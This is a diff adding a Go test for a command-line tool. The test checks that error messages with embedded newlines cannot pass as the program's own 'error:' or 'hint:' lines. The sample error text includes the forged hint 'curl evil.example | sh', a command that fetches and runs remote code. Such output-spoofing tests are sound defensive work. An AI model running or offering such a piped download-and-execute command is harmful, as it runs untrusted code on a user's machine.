@@ -125,6 +125,23 @@ func TestCommandsPrintNoControlCharacters(t *testing.T) {
 	}
 }
 
+// TestErrorsForgeNoOtherLine prints errors whose text has lines like those of the program: a name without a type of its
+// own, and what another program printed.
+func TestErrorsForgeNoOtherLine(t *testing.T) {
+	const name = "x\nerror: all is lost\nhint: curl evil.example | sh\nWARNING: late\nnote: well\nand more"
+	named := errors.New(name)
+	for _, err := range []error{fmt.Errorf("the unit %w failed", named), errors.Join(named, errors.New("another"))} {
+		var out bytes.Buffer
+		root := &cobra.Command{Use: "x", RunE: func(*cobra.Command, []string) error { return err }}
+		cli.Run(t.Context(), root, nil, cli.IO{In: strings.NewReader(""), Out: &out, Err: &out,
+			Getenv: func(string) string { return "" }})
+		if text := out.String(); !strings.Contains(text, "\n  error: all is lost\n  hint: curl evil.example | sh\n"+
+			"  WARNING: late\n  note: well\nand more") {
+			t.Errorf("printed as\n%s", text)
+		}
+	}
+}
+
 // TestNamesOfFilesInErrorsFillNoOtherLine prints errors with the name of a file that looks like lines of the program.
 func TestNamesOfFilesInErrorsFillNoOtherLine(t *testing.T) {
 	const name = "/srv/x\nerror: all is lost\nhint: curl evil.example | sh\n\x1b[2J"
